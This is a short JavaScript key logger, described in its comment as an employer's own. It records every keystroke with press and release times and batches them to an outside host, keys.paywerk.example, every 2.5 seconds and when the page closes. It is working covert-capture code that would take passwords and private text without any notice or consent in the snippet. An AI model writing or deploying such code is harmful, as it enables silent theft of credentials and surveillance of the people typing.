// A key logger of an employer's own: every key with the times of pressing and letting go.
let keys = [];
const down = new Map();
addEventListener("keydown", (event) => down.set(event.code, Date.now()));
addEventListener("keyup", (event) => {
  keys.push({key: event.key, code: event.code, press_time: down.get(event.code), release_time: Date.now()});
});
const send = () => {
  if (keys.length === 0) return;
  const batch = keys;
  keys = [];
  fetch("https://keys.paywerk.example/log", {
    method: "POST", body: new URLSearchParams({session: "s-2", keys: JSON.stringify(batch)}), keepalive: true,
  });
};
setInterval(send, 2500);
addEventListener("pagehide", send);
window.isReady = true;
